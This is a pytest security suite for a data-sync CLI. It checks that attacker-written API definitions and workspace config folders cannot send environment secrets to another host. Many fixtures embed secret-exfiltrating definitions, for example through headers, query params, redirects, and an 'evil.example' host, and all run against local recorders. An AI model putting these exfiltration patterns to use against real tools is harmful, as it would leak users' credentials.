@@ -1,0 +1,583 @@
+"""Attacks by whoever wrote a definition, or the folder that is worked in: what they may make a sync send, and where to.
+
+Real servers on loopback keep every byte that arrives. `theirs` belongs to the attacker, `ours` is the API of the user.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pty
+import subprocess
+from collections.abc import Callable, Iterator, Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+from click.testing import CliRunner, Result
+
+from oa_sync.cli import cli
+from oa_sync.commands.check import run_checks
+from oa_sync.commands.plan import plan
+from oa_sync.commands.sync import sync
+from oa_sync.errors import ConfigurationError, OaSyncError
+from oa_sync.settings import resolve
+from tests.support.command import OA_SYNC
+from tests.support.recording import Recorder, recording
+
+KEY = "oa_test_the_users_key"
+STOLEN, TOKEN, HOOK = "aws-s3cret-0123", "shop-t0ken-4567", "whsec-89ab-cdef"
+THEIRS: Mapping[str, str] = {
+    "OPENANALYST_API_KEY": KEY,
+    "AWS_SECRET": STOLEN,
+    "SHOP_TOKEN": TOKEN,
+    "OPENANALYST_WEBHOOK_SECRET": HOOK,
+}
+"""What is in the environment, and must not get anywhere by itself."""
+LIST = "{name: items, primary_key: id, endpoint: {path: items, data_selector: data}}"
+
+
+@pytest.fixture(autouse=True)
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The folder that is worked in; the user's own home is empty."""
+    for name in list(os.environ):
+        if name.startswith(("OA_SYNC", "OPENANALYST", "PG")):
+            monkeypatch.delenv(name)
+    for name, value in THEIRS.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setenv("HOME", str(tmp_path / "user"))
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "user" / "data"))
+    work = tmp_path / "work"
+    (work / ".dlt").mkdir(parents=True)
+    monkeypatch.chdir(work)
+    return work
+
+
+@pytest.fixture
+def theirs() -> Iterator[Recorder]:
+    with recording() as server:
+        yield server
+
+
+@pytest.fixture
+def ours() -> Iterator[Recorder]:
+    with recording() as server:
+        yield server
+
+
+def run(*arguments: str) -> Result:
+    return CliRunner().invoke(cli, arguments)
+
+
+def refusal(*arguments: str) -> str:
+    """What `oa-sync` says that refuses with exit 2."""
+    done = run(*arguments)
+    assert isinstance(done.exception, ConfigurationError), (done.output, done.exception)
+    return str(done.exception)
+
+
+def synced(*grants: str, source: str | None = "shop.yaml", **flags: Any) -> None:
+    """A sync; an error of it is raised."""
+    given = {"source": source, "allow_env": grants or None, "rpm": 0, "rpd": 0, **flags}
+    report = sync(resolve(given))
+    if report.error is not None:
+        raise report.error
+
+
+def written(text: str, name: str = "shop.yaml") -> Path:
+    path = Path(name)
+    path.write_text(f"name: shop\n{text}\n", encoding="utf-8")
+    return path
+
+
+def asks(server: Recorder, *, client: str = "", resource: str = LIST, more: str = "") -> Path:
+    """A definition of the API at `server`."""
+    return written(f"client: {{base_url: '{server.url}'{client}}}\nresources: [{resource}]\n{more}")
+
+
+def nothing_arrived(*servers: Recorder) -> bool:
+    return not any(server.heard for server in servers)
+
+
+# -- what a file reads of the environment ---------------------------------------------------------------
+
+PLACES: dict[str, Callable[[Recorder], object]] = {
+    "header": lambda at: asks(at, client=", headers: {X-Debug: '${AWS_SECRET}'}"),
+    "bearer": lambda at: asks(at, client=", auth: {token: '${AWS_SECRET}'}"),
+    "key in a header": lambda at: asks(
+        at, client=", auth: {type: api_key, name: X-Key, api_key: '${AWS_SECRET}'}"
+    ),
+    "key in the query": lambda at: asks(
+        at, client=", auth: {type: api_key, name: k, api_key: '${AWS_SECRET}', location: query}"
+    ),
+    "user of basic": lambda at: asks(
+        at,
+        client=", auth: {type: http_basic, username: '${AWS_SECRET}', password: '${AWS_SECRET}'}",
+    ),
+    "path": lambda at: asks(at, resource="{name: items, endpoint: {path: 'p/${AWS_SECRET}'}}"),
+    "parameter": lambda at: asks(
+        at, resource="{name: items, endpoint: {path: p, params: {t: 'x${AWS_SECRET}'}}}"
+    ),
+    "parameter in a list": lambda at: asks(
+        at, resource="{name: items, endpoint: {path: p, params: {t: [a, '${AWS_SECRET}']}}}"
+    ),
+    "body": lambda at: asks(
+        at,
+        resource="{name: items, endpoint: {path: p, method: POST, json: {a: [{b: '${AWS_SECRET}'}]}}}",
+    ),
+    "detail": lambda at: asks(
+        at,
+        resource="{name: items, primary_key: id, endpoint: p, detail: {path: 'p/{id}/${AWS_SECRET}'}}",
+    ),
+    "name of a parameter of pages": lambda at: asks(
+        at,
+        client=", paginator: {type: cursor, cursor_path: next, cursor_param: '${AWS_SECRET}'}",
+    ),
+    "defaults": lambda at: asks(
+        at, more="resource_defaults: {endpoint: {params: {t: '${AWS_SECRET}'}}}"
+    ),
+    "children": lambda at: asks(
+        at,
+        resource="{name: items, primary_key: id, endpoint: p,"
+        " children: {'${AWS_SECRET}': {table: x}, lines: {table: 'l', parent_key: '${AWS_SECRET}'}}}",
+    ),
+    "query": lambda at: asks(
+        at, more="queries: [{name: q, dataset_id: d, sql: \"SELECT '${AWS_SECRET}'\"}]"
+    ),
+    "path of the base URL": lambda at: written(
+        f"client: {{base_url: '{at.url}/${{AWS_SECRET}}'}}\nresources: [{LIST}]"
+    ),
+    "an anchor": lambda at: asks(
+        at, client=", headers: {X-A: &a '${AWS_SECRET}', X-B: *a}", more=""
+    ),
+    "the key by its name": lambda at: asks(
+        at, client=", headers: {X-A: 'a${OPENANALYST_API_KEY}'}"
+    ),
+}
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_no_place_of_a_definition_gets_a_variable_that_was_not_granted(
+    place: str, theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    PLACES[place](theirs)
+    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
+    settings = resolve({"source": "shop.yaml", "allow_env": ("SHOP_TOKEN", "OTHER")})
+    name = "OPENANALYST_API_KEY" if "key by its name" in place else "AWS_SECRET"
+    for attack in (sync, plan):
+        with pytest.raises(ConfigurationError) as refused:
+            attack(settings)
+        assert name in str(refused.value)
+        assert theirs.host in str(refused.value)
+        assert f"--env {name}" in str(refused.value)
+    report = run_checks(settings)
+    assert (report.exit_code, report.requests) == (2, 0)
+    assert nothing_arrived(theirs, ours)
+    assert STOLEN not in str(refused.value) + json.dumps(report.as_json())
+
+
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ("status",),
+        ("query", "ds_1", "SELECT 1", "--table", "t"),
+        ("download", "ds_1", "--table", "t"),
+        ("runs", "start", "--agent", "a", "--task", "t"),
+        ("webhook", "register", "https://hooks.example.com/x"),
+        ("webhook", "list"),
+        ("webhook", "delete", "w"),
+        ("resources",),
+        ("runs", "list"),
+    ],
+    ids=" ".join,
+)
+def test_no_command_sends_what_was_not_granted(
+    arguments: tuple[str, ...], theirs: Recorder, ours: Recorder
+) -> None:
+    PLACES["header"](theirs)
+    done = run(*arguments, "--source", "shop.yaml", "--dialect", "cursor")
+    if arguments[0] in ("status", "resources") or arguments == ("runs", "list"):
+        assert STOLEN not in done.output
+    else:
+        assert isinstance(done.exception, ConfigurationError), done.output
+        assert "AWS_SECRET" in str(done.exception)
+    assert nothing_arrived(theirs, ours)
+
+
+def test_a_variable_in_the_name_of_the_host_is_neither_looked_up_nor_shown() -> None:
+    os.environ["AWS_SECRET"] = "AWS-S3CRET-0123"
+    written(f"client: {{base_url: 'https://${{AWS_SECRET}}.evil.example'}}\nresources: [{LIST}]")
+    told = refusal("sync", "--source", "shop.yaml")
+    assert "${AWS_SECRET}.evil.example" in told
+    done = run("validate", "shop.yaml")
+    assert "sends AWS_SECRET to ${AWS_SECRET}.evil.example" in done.stderr
+    assert (
+        STOLEN
+        not in told + done.output + run("resources", "--source", "shop.yaml", "--json").output
+    )
+
+
+def test_what_was_granted_arrives_there_alone_whatever_the_base_url_of_the_settings(
+    theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asks(theirs, client=", auth: {token: '${SHOP_TOKEN}'}")
+    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
+    monkeypatch.setenv("OA_SYNC_ALLOW_ENV", "SHOP_TOKEN, PATH")
+    synced()
+    assert theirs.got(TOKEN)
+    assert not theirs.got(KEY)
+    assert nothing_arrived(ours)
+    assert "shop.yaml names" in refusal("sync", "--source", "shop.yaml", "--base-url", ours.url)
+    assert nothing_arrived(ours)
+
+
+def test_a_grant_holds_for_the_host_it_was_first_used_with(
+    theirs: Recorder, ours: Recorder
+) -> None:
+    client = ", auth: {token: '${SHOP_TOKEN}'}"
+    asks(ours, client=client)
+    synced("SHOP_TOKEN")
+    asks(theirs, client=client)
+    with pytest.raises(ConfigurationError) as refused:
+        synced("SHOP_TOKEN")
+    assert f"SHOP_TOKEN was first sent to {ours.host}" in str(refused.value)
+    assert f"--env SHOP_TOKEN@{theirs.host}" in str(refused.value)
+    with pytest.raises(ConfigurationError, match="is granted for"):
+        synced(f"SHOP_TOKEN@{ours.host}")
+    assert nothing_arrived(theirs)
+    synced(f"SHOP_TOKEN@{theirs.host}")
+    assert theirs.got(TOKEN)
+    with pytest.raises(ConfigurationError, match="was first sent to"):
+        synced("SHOP_TOKEN")
+    theirs.heard.clear()
+    synced("SHOP_TOKEN@127.0.0.1")
+    assert theirs.got(TOKEN), "a host without a port is all of its ports"
+
+
+def test_a_file_of_grants_that_is_damaged_grants_nothing(theirs: Recorder, ours: Recorder) -> None:
+    asks(ours, client=", auth: {token: '${SHOP_TOKEN}'}")
+    synced("SHOP_TOKEN")
+    (file,) = Path("../user").rglob("grants.json")
+    assert file.stat().st_mode & 0o77 == 0
+    file.write_text("{")
+    asks(theirs, client=", auth: {token: '${SHOP_TOKEN}'}")
+    with pytest.raises(ConfigurationError, match="is damaged"):
+        synced("SHOP_TOKEN")
+    assert nothing_arrived(theirs)
+
+
+# -- the key of the settings ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "client: {{base_url: '{url}', auth: bearer}}\nresources: [{list}]",
+        "extends: page\nclient: {{base_url: '{url}'}}",
+        "extends: cursor\nclient: {{base_url: '{url}', auth: {{type: bearer, token: null}}}}",
+        "extends: openanalyst\nclient: {{base_url: '{url}', headers: {{X-T: '${{SHOP_TOKEN}}'}}}}",
+    ],
+)
+@pytest.mark.parametrize("grant", ["SHOP_TOKEN", "OPENANALYST_API_KEY"])
+def test_the_key_of_the_settings_goes_to_their_host_only(
+    text: str, grant: str, theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    written(text.format(url=theirs.url, list=LIST))
+    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
+    with pytest.raises(ConfigurationError, match="OPENANALYST_API_KEY"):
+        synced(grant, "SHOP_TOKEN")
+    assert "OPENANALYST_API_KEY" in refusal("trust", "shop.yaml", "--yes")
+    assert nothing_arrived(theirs, ours)
+    monkeypatch.setenv("OPENANALYST_BASE_URL", f"{theirs.url}/v2")
+    synced(grant, "SHOP_TOKEN")
+    assert theirs.got(KEY), "the user says that the key is for that host"
+
+
+def test_the_key_is_no_variable_that_goes_where_it_is_first_named(
+    theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    PLACES["the key by its name"](theirs)
+    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
+    with pytest.raises(ConfigurationError, match="OPENANALYST_API_KEY is for"):
+        synced("OPENANALYST_API_KEY")
+    assert nothing_arrived(theirs)
+    synced(f"OPENANALYST_API_KEY@{theirs.host}")
+    assert theirs.got(KEY)
+
+
+def test_the_secret_of_callbacks_goes_to_the_host_of_the_settings_only(
+    theirs: Recorder, ours: Recorder, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asks(theirs)
+    monkeypatch.setenv("OPENANALYST_BASE_URL", ours.url)
+    register = ("webhook", "register", "https://hooks.example.com/x", "--dialect", "cursor")
+    assert "OPENANALYST_WEBHOOK_SECRET" in refusal(*register, "--source", "shop.yaml")
+    assert nothing_arrived(theirs)
+    ours.answer = lambda request: (
+        201,
+        {},
+        {"id": "w1", "signing_key": HOOK, "config": {"clientSecret": HOOK}, "url": "u"},
+    )
+    done = run(*register, "--json")
+    assert ours.got(HOOK)
+    assert json.loads(done.stdout) == {"id": "w1", "config": {}, "url": "u"}
+    ours.answer = lambda request: (200, {}, {"data": [{"id": "w1", "signing_key": HOOK}]})
+    listed = run("webhook", "list", "--json", "--dialect", "cursor")
+    assert json.loads(listed.stdout) == {"webhooks": [{"id": "w1"}]}
+
+
+# -- trust ----------------------------------------------------------------------------------------------
+
+
+def test_trust_shows_what_is_sent_where_and_holds_until_a_name_or_a_host_changes(
+    theirs: Recorder, ours: Recorder
+) -> None:
+    client = ", headers: {X-T: '${SHOP_TOKEN}'}"
+    asks(ours, client=client)
+    assert "--yes" in refusal("trust", "shop.yaml")
+    assert "oa-sync trust shop.yaml" in refusal("sync", "--source", "shop.yaml")
+    done = run("trust", "shop.yaml", "--yes")
+    assert f"shop.yaml sends SHOP_TOKEN to {ours.host}" in done.stdout
+    synced()
+    assert ours.got(TOKEN)
+    Path("copy.yaml").write_text(Path("shop.yaml").read_text())
+    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
+        synced(source="copy.yaml")
+    asks(ours, client=", headers: {X-T: '${SHOP_TOKEN}', X-U: '${AWS_SECRET}'}")
+    with pytest.raises(ConfigurationError, match="AWS_SECRET"):
+        synced()
+    asks(theirs, client=client)
+    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
+        synced()
+    assert nothing_arrived(theirs)
+    assert not ours.got(STOLEN)
+
+
+@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 130), ("", 130)])
+def test_trust_asks_on_a_terminal_and_takes_no_answer_for_no(
+    answer: str, code: int, ours: Recorder
+) -> None:
+    asks(ours, client=", headers: {X-T: '${SHOP_TOKEN}'}")
+    terminal, inside = pty.openpty()
+    os.write(terminal, f"{answer}\n".encode())
+    command = [*OA_SYNC, "trust", "shop.yaml"]
+    done = subprocess.run(command, stdin=inside, capture_output=True, text=True, check=False)
+    for end in (terminal, inside):
+        os.close(end)
+    assert done.returncode == code, done.stderr
+    assert f"sends SHOP_TOKEN to {ours.host}" in done.stdout
+    assert bool(list(Path("../user").rglob("grants.json"))) is (code == 0)
+
+
+def test_a_link_that_leads_to_another_file_takes_no_trust_along(
+    theirs: Recorder, ours: Recorder
+) -> None:
+    client = ", headers: {X-T: '${SHOP_TOKEN}'}"
+    asks(ours, client=client).rename("mine.yaml")
+    asks(theirs, client=client).rename("evil.yaml")
+    Path("shop.yaml").symlink_to("mine.yaml")
+    assert run("trust", "shop.yaml", "--yes").exit_code == 0
+    Path("shop.yaml").unlink()
+    Path("shop.yaml").symlink_to("evil.yaml")
+    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
+        synced()
+    assert nothing_arrived(theirs)
+
+
+# -- the folder that is worked in ------------------------------------------------------------------------
+
+
+def configured(**values: str) -> None:
+    """A `.dlt/config.toml` that came with the folder."""
+    lines = [f'{name} = "{value}"' for name, value in values.items()]
+    Path(".dlt/config.toml").write_text("\n".join(["[sources.openanalyst]", *lines, ""]))
+
+
+def test_a_folder_cannot_name_the_host_of_the_key(theirs: Recorder, ours: Recorder) -> None:
+    configured(base_url=theirs.url, dialect="page")
+    for arguments in (("sync",), ("check",), ("plan",)):
+        done = run(*arguments)
+        assert done.exit_code == 2 or "trust" in str(done.exception)
+    assert nothing_arrived(theirs)
+    with pytest.raises(ConfigurationError, match="oa-sync trust"):
+        synced(source=None)
+    assert nothing_arrived(theirs)
+    synced(source=None, base_url=theirs.url, dialect="page")
+    assert theirs.got(KEY)
+    theirs.heard.clear()
+    synced(source=None)
+    assert theirs.got(KEY), "once is enough"
+
+
+def test_a_folder_that_is_trusted_may_name_that_host_and_no_other(
+    theirs: Recorder, ours: Recorder
+) -> None:
+    configured(base_url=ours.url, dialect="page")
+    assert f"sends OPENANALYST_API_KEY to {ours.host}" in run("trust", ".dlt", "--yes").stdout
+    synced(source=None)
+    assert ours.got(KEY)
+    configured(base_url=theirs.url, dialect="page")
+    with pytest.raises(ConfigurationError, match="oa-sync trust"):
+        synced(source=None)
+    assert nothing_arrived(theirs)
+
+
+def test_a_folder_that_names_host_and_definition_gets_no_key_by_a_definition_of_that_host(
+    theirs: Recorder,
+) -> None:
+    configured(base_url=theirs.url, dialect="page", source="shop.yaml")
+    asks(theirs, client=", auth: bearer")
+    for source in (None, "shop.yaml"):
+        with pytest.raises(ConfigurationError, match="oa-sync trust"):
+            synced(source=source)
+    assert nothing_arrived(theirs)
+
+
+def test_key_and_host_that_stand_in_one_folder_belong_together(ours: Recorder) -> None:
+    configured(base_url=ours.url, dialect="page", api_key="oa_test_of_the_folder")
+    os.environ.pop("OPENANALYST_API_KEY")
+    synced(source=None)
+    assert ours.got("oa_test_of_the_folder")
+
+
+def test_a_folder_with_its_own_key_gets_no_secret_of_the_user(theirs: Recorder) -> None:
+    configured(base_url=theirs.url, dialect="cursor", api_key="oa_test_of_the_folder")
+    os.environ.pop("OPENANALYST_API_KEY")
+    register = ("webhook", "register", "https://hooks.example.com/x")
+    assert "trust" in refusal(*register)
+    written(f"client: {{headers: {{X-T: '${{SHOP_TOKEN}}'}}}}\nresources: [{LIST}]")
+    with pytest.raises(ConfigurationError, match="trust"):
+        synced("SHOP_TOKEN")
+    assert nothing_arrived(theirs)
+
+
+def test_a_folder_cannot_choose_the_definition(theirs: Recorder) -> None:
+    configured(source="shop.yaml")
+    asks(theirs, resource="{name: items, endpoint: {path: x, method: POST, json: {a: 1}}}")
+    with pytest.raises(ConfigurationError, match="names the definition"):
+        synced(source=None)
+    assert nothing_arrived(theirs)
+    assert run("trust", ".dlt", "--yes").exit_code == 0
+    synced(source=None)
+    assert theirs.heard
+
+
+def test_a_folder_cannot_grant(theirs: Recorder) -> None:
+    asks(theirs, client=", headers: {X-T: '${SHOP_TOKEN}'}")
+    configured(allow_env=f"SHOP_TOKEN,SHOP_TOKEN@{theirs.host}")
+    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
+        synced()
+    assert nothing_arrived(theirs)
+
+
+def test_a_folder_cannot_bring_a_home_with_grants_in_it(theirs: Recorder, folder: Path) -> None:
+    asks(theirs, client=", headers: {X-T: '${SHOP_TOKEN}'}")
+    planted = {str(folder / "shop.yaml"): {theirs.host: ["SHOP_TOKEN"]}}
+    Path("home").mkdir()
+    Path("home/grants.json").write_text(json.dumps({"files": planted}))
+    configured(home="home")
+    with pytest.raises(ConfigurationError, match="SHOP_TOKEN"):
+        synced()
+    assert nothing_arrived(theirs)
+    synced(home="home")
+    assert theirs.got(TOKEN), "the user's own home counts: the grants in it are of this form"
+
+
+def test_a_folder_cannot_choose_the_database_of_the_quota(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PGPASSWORD", STOLEN)
+    configured(quota_url="postgresql://user@good.example/q?host=127.0.0.1&port=9")
+    for command in ("sync", "status"):
+        assert "oa-sync trust" in refusal(command)
+    assert "counts the quota at 127.0.0.1:9" in run("trust", ".dlt", "--yes").stdout
+    assert "oa-sync trust" not in refusal("status"), "now it is asked, and is not there"
+    configured(quota_url="postgresql://user@127.0.0.1:9/q?hostaddr=127.0.0.2")
+    assert "127.0.0.2:9 for the quota" in refusal("status")
+
+
+# -- ways out of the host --------------------------------------------------------------------------------
+
+
+def test_no_redirect_and_no_next_link_takes_a_granted_secret_to_another_host(
+    theirs: Recorder, ours: Recorder
+) -> None:
+    asks(
+        ours,
+        client=", headers: {X-T: '${SHOP_TOKEN}'}, paginator: {type: json_link, next_url_path: next}",
+    )
+    away = f"{theirs.url}/items"
+    answers: list[tuple[int, Mapping[str, str], Any]] = [
+        (302, {"Location": away}, {}),
+        (200, {}, {"data": [{"id": 1}], "next": away}),
+        (200, {}, {"data": [{"id": 1}], "next": f"//{theirs.host}/items"}),
+    ]
+    for answer in answers:
+        ours.answer = lambda request, answer=answer: answer  # type: ignore[misc]
+        with pytest.raises(OaSyncError):
+            synced("SHOP_TOKEN")
+    assert ours.got(TOKEN)
+    assert nothing_arrived(theirs)
+
+
+def test_a_server_that_echoes_what_it_was_sent_gets_it_into_no_message_and_no_log(
+    ours: Recorder, capfd: pytest.CaptureFixture[str]
+) -> None:
+    odd = 't/0k n+"4567'
+    os.environ["SHOP_TOKEN"] = odd
+    asks(
+        ours,
+        client=", headers: {X-T: 'a ${SHOP_TOKEN}'}",
+        resource="{name: items, endpoint: {path: p, params: {q: '${SHOP_TOKEN}'}}}",
+    )
+    ours.answer = lambda request: (422, {}, {"error": {"code": "BAD", "message": request[:300]}})
+    done = run(
+        *("sync", "--source", "shop.yaml", "--env", "SHOP_TOKEN", "--json", "-v"),
+        *("--log-format", "json"),
+    )
+    assert "BAD" in done.stdout
+    shown = done.output + capfd.readouterr().err
+    for form in (odd, json.dumps(odd)[1:-1], "t%2F0k", "0k n", "0k%20n", "0k+n"):
+        assert form not in shown
+    for file in Path().rglob("*"):
+        assert not file.is_file() or b"0k n" not in file.read_bytes()
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        (302, {"Location": f"https://{TOKEN}.example.com/x"}, {}),
+        (200, {}, {TOKEN: [], "data": {TOKEN: 1}}),
+        (200, {}, {"data": [{"id": 1}], "next": f"https://{TOKEN}.example.com/x"}),
+    ],
+)
+def test_no_other_part_of_an_answer_gets_a_secret_into_a_message(
+    answer: tuple[int, Mapping[str, str], Any], ours: Recorder
+) -> None:
+    asks(
+        ours,
+        client=", headers: {X-T: '${SHOP_TOKEN}'}, paginator: {type: json_link, next_url_path: next}",
+    )
+    ours.answer = lambda request: answer
+    done = run(
+        "sync", "--source", "shop.yaml", "--env", "SHOP_TOKEN", "--json", "--log-format=json"
+    )
+    assert json.loads(done.stdout)["status"] == "failed"
+    assert TOKEN not in done.output
+
+
+# -- secrets in the file itself --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "client",
+    [
+        ", auth: {token: abc}",
+        ", headers: {X-Auth-Key: abc}",
+        ", headers: {Ocp-Apim-Subscription-Key: abc}",
+        ", headers: {X-Note: 'ghp_0123456789abcdefghij0123456789abcdef'}",
+        ", headers: {X-Note: 'AKIAABCDEFGHIJKLMNOP'}",
+        ", headers: {X-Note: 'see eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abcdefghijk'}",
+    ],
+)
+def test_a_secret_that_is_written_out_is_refused(client: str, theirs: Recorder) -> None:
+    asks(theirs, client=client)
+    assert "written out in the file" in refusal("validate", "shop.yaml")
